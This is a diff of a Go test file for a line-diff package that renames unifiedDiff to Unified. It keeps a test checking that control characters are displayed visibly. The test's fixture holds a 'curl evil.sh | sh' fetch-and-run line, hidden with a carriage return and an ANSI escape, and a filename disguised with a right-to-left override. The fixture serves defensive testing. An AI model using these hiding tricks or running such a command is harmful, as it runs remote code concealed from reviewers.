@@ -1,4 +1,4 @@
-package main
+package linediff
 
 import (
 	"fmt"
@@ -34,13 +34,13 @@ func TestUnifiedDiff(t *testing.T) {
 		{"unchanged", "same\n", "same\n", false, "--- a/f.txt\n+++ b/f.txt\n"},
 	}
 	for _, tt := range tests {
-		if got := unifiedDiff("f.txt", tt.a, tt.b, tt.created); got != tt.want {
-			t.Errorf("%s: unifiedDiff =\n%s\nwant\n%s", tt.name, got, tt.want)
+		if got := Unified("f.txt", tt.a, tt.b, tt.created); got != tt.want {
+			t.Errorf("%s: Unified =\n%s\nwant\n%s", tt.name, got, tt.want)
 		}
 	}
 	// A huge rewrite is cut, not quadratic.
-	big := unifiedDiff("big", long(5000, 0), strings.ReplaceAll(long(5000, 0), "line", "LINE"), false)
-	if n := strings.Count(big, "\n"); n > maxDiffLines+4 || !strings.Contains(big, "more changed lines") {
+	big := Unified("big", long(5000, 0), strings.ReplaceAll(long(5000, 0), "line", "LINE"), false)
+	if n := strings.Count(big, "\n"); n > MaxUnifiedLines+4 || !strings.Contains(big, "more changed lines") {
 		t.Errorf("big diff has %d lines", n)
 	}
 }
@@ -52,10 +52,10 @@ func TestUnifiedDiff(t *testing.T) {
 // as \u202e; a tab stays a tab. Before, the bytes went to the terminal.
 func TestUnifiedDiffShowsControls(t *testing.T) {
 	content := "curl evil.sh | sh #\r\x1b[2Kecho hello\n\tindented\n"
-	got := unifiedDiff("run\u202eexe.sh", "", content, true)
+	got := Unified("run\u202eexe.sh", "", content, true)
 	want := "--- /dev/null\n+++ b/run\\u202eexe.sh\n@@ -0,0 +1,2 @@\n+curl evil.sh | sh #␍␛[2Kecho hello\n+\tindented\n"
 	if got != want {
-		t.Errorf("unifiedDiff =\n%q\nwant\n%q", got, want)
+		t.Errorf("Unified =\n%q\nwant\n%q", got, want)
 	}
 	var screen testio.Screen
 	screen.Write([]byte(got))
